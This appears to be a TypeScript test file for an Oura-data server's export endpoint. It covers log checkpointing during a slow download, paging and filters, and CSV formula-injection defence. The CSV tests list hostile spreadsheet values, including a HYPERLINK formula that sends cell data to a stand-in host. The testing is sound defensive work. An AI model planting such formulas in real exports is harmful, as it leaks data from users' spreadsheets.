// GET /export on a real port: what a documents export holds, and that a client reading it slowly does not hold the
// database's log open for the writes that arrive meanwhile.
import { Database } from "bun:sqlite";
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { join } from "node:path";
import type { RunningServer } from "../../src/server.ts";
import { TEST_API_TOKEN } from "../helpers/config.ts";
import { parseCsv } from "../helpers/csv.ts";
import { deliver, sampleNotification } from "../helpers/notifications.ts";
import { startTestServer, tempDir } from "../helpers/servers.ts";

const auth = { authorization: `Bearer ${TEST_API_TOKEN}` };
const OBSERVED_AT = "2026-08-01T06:00:00.000Z";

/** `count` daily_sleep documents of about 2 KiB each (as real ones are), one per day going back from 2026-07-31. */
function dailySleeps(count: number, first = 0): Record<string, unknown>[] {
  return Array.from({ length: count }, (_, i) => {
    const day = new Date(Date.UTC(2026, 6, 31) - (first + i) * 86_400_000).toISOString().slice(0, 10);
    return { id: `sleep-${first + i}`, day, score: 70 + (i % 30), contributors: { note: "x".repeat(2000) } };
  });
}

async function store(running: RunningServer, userId: string, dataType: string, documents: Record<string, unknown>[]): Promise<void> {
  for (let i = 0; i < documents.length; i += 500) await running.storage.polls.recordPolledDocuments(userId, dataType, documents.slice(i, i + 500), OBSERVED_AT);
}

describe("documents export", () => {
  let running: RunningServer;
  let path: string;
  beforeAll(async () => {
    path = join(tempDir("oura-export-"), "export.db");
    running = await startTestServer({ DATABASE_PATH: path, API_TOKEN: TEST_API_TOKEN });
  });
  afterAll(async () => {
    await running.stop();
  });

  test("a stalled download holds no read open: the log can still be checkpointed and truncated while it waits", async () => {
    // ~12 MiB of documents: far more than the socket buffers, so the server stops part-way and waits for the client.
    await store(running, "USER-SLOW", "daily_sleep", dailySleeps(6000));
    const slow = Bun.spawn(["python3", join(import.meta.dir, "../helpers/slow-download.py"), running.url.port, "/export?what=documents", TEST_API_TOKEN, "60"], {
      stdout: "pipe",
    });
    const database = new Database(path, { strict: true });
    try {
      const statusLine = (await slow.stdout.getReader().read()).value;
      expect(new TextDecoder().decode(statusLine)).toStartWith("HTTP/1.1 200");

      // Writes while the export waits: 50 commits, each its own transaction through the server's writer.
      for (let i = 0; i < 50; i++) await store(running, "USER-WRITER", "daily_sleep", dailySleeps(10, i * 10));

      database.run("PRAGMA busy_timeout = 2000");
      const checkpoint = database.query("PRAGMA wal_checkpoint(TRUNCATE)").get() as { busy: number; log: number; checkpointed: number };
      // busy = 1 when a reader still needed the log's frames (the export's statement, open across pages).
      expect(checkpoint).toEqual({ busy: 0, log: 0, checkpointed: 0 });
      expect(Bun.file(`${path}-wal`).size).toBe(0);
      // The download is still waiting: the checkpoint did not just follow the end of the export.
      expect(slow.exitCode).toBeNull();
    } finally {
      slow.kill();
      database.close();
    }
  }, 60_000);
});

describe("documents export: every document once, newest day first, across pages", () => {
  let running: RunningServer;
  beforeAll(async () => {
    running = await startTestServer({ API_TOKEN: TEST_API_TOKEN });
    // More than two pages of 500; days shared between users and types; documents without a day, including the
    // tombstone a delete leaves for a document never fetched.
    await store(running, "USER-A", "daily_sleep", dailySleeps(1100));
    await store(running, "USER-B", "daily_sleep", dailySleeps(300));
    await store(running, "USER-A", "workout", dailySleeps(40).map((d, i) => ({ ...d, id: `workout-${i}` })));
    await store(running, "USER-A", "ring_configuration", [{ id: "ring-1" }, { id: "ring-2" }]);
    const gone = await deliver(running.url, sampleNotification({ event_type: "delete", data_type: "tag", object_id: "tag-never-fetched", user_id: "USER-B" }));
    expect(gone.status).toBe(201);
  });
  afterAll(async () => {
    await running.stop();
  });

  async function exported(query: string): Promise<{ user_id: string; data_type: string; document_id: string; day: string | null; deleted: boolean }[]> {
    const response = await fetch(new URL(`/export?what=documents${query}`, running.url), { headers: auth });
    expect(response.status).toBe(200);
    return (await response.text()).trim().split("\n").filter(Boolean).map((line) => JSON.parse(line));
  }

  const keys = (documents: { user_id: string; data_type: string; document_id: string }[]) => documents.map((d) => `${d.user_id}/${d.data_type}/${d.document_id}`);

  test("all of them, each once, dated ones newest day first and those without a day last", async () => {
    const documents = await exported("");
    expect(documents.length).toBe(1100 + 300 + 40 + 2 + 1);
    expect(new Set(keys(documents)).size).toBe(documents.length);
    const days = documents.map((d) => d.day);
    const firstUndated = days.indexOf(null);
    expect(firstUndated).toBe(1440);
    expect(days.slice(firstUndated).every((day) => day === null)).toBe(true);
    const dated = days.slice(0, firstUndated) as string[];
    expect(dated).toEqual(dated.toSorted().reverse());
    expect(documents.find((d) => d.document_id === "tag-never-fetched")).toMatchObject({ user_id: "USER-B", day: null, deleted: true });
    expect(Object.keys(documents[0]!).toSorted()).toEqual(["data_type", "day", "deleted", "document", "document_id", "event_id", "fetched_at", "user_id"]);
  });

  test("filters: a user, a data type, a first day", async () => {
    const userB = await exported("&user_id=USER-B");
    expect(userB.length).toBe(301);
    expect(userB.every((d) => d.user_id === "USER-B")).toBe(true);
    const workouts = await exported("&data_type=workout");
    expect(keys(workouts)).toEqual(Array.from({ length: 40 }, (_, i) => `USER-A/workout/workout-${i}`));
    const recent = await exported("&since=2026-07-01");
    // 31 days of July for each of USER-A's sleeps and workouts and USER-B's sleeps; nothing without a day.
    expect(recent.length).toBe(31 * 3);
    expect(recent.every((d) => d.day !== null && d.day >= "2026-07-01")).toBe(true);
  });
});


describe("CSV export: text that a spreadsheet would run as a formula is written as text (OWASP CSV injection)", () => {
  // Every character OWASP lists as starting a formula, in values that come from outside (Oura, a webhook's sender).
  const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"];
  let running: RunningServer;
  beforeAll(async () => {
    running = await startTestServer({ API_TOKEN: TEST_API_TOKEN });
    await running.storage.polls.recordPolledDocuments("USER-CSV", "daily_sleep", HOSTILE.map((id, i) => ({ id, day: `2026-07-0${i + 1}`, score: -5 })), OBSERVED_AT);
    for (const userId of HOSTILE) expect((await deliver(running.url, sampleNotification({ user_id: userId, data_type: "workout", object_id: "-42" }))).status).toBe(201);
  });
  afterAll(async () => {
    await running.stop();
  });

  async function csv(query: string): Promise<{ text: string; rows: Record<string, string>[] }> {
    const response = await fetch(new URL(`/export?format=csv${query}`, running.url), { headers: auth });
    expect(response.headers.get("content-type")).toContain("text/csv");
    const text = await response.text();
    const [header, ...rows] = parseCsv(text);
    return { text, rows: rows.map((cells) => Object.fromEntries(header!.map((column, i) => [column, cells[i]!]))) };
  }

  test("documents: each such cell is quoted and starts with a single quote; the value is otherwise unchanged", async () => {
    const { text, rows } = await csv("&what=documents&user_id=USER-CSV");
    expect(rows.map((row) => row.document_id).toSorted()).toEqual(HOSTILE.map((value) => `'${value}`).toSorted());
    expect(text).toContain(`"'+1+1"`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")"`);
    // Nothing else is touched: the day, the JSON document (its -5 inside), numbers we write (event ids) stay bare.
    for (const row of rows) {
      expect(row.day).toMatch(/^2026-07-0\d$/);
      expect(JSON.parse(row.document!).score).toBe(-5);
      expect(row.event_id).toMatch(/^\d+$/);
      expect(row.deleted).toBe("false");
    }
    expect(text).toMatch(/,\d+,/);
  });

  test("events: user and object ids from a webhook are neutralised the same way", async () => {
    const { rows } = await csv("&what=events&data_type=workout");
    expect(rows.map((row) => row.user_id).toSorted()).toEqual(HOSTILE.map((value) => `'${value}`).toSorted());
    for (const row of rows) {
      expect(row.object_id).toBe("'-42");
      expect(row.id).toMatch(/^\d+$/);
      expect(JSON.parse(row.notification!).object_id).toBe("-42");
    }
  });
});

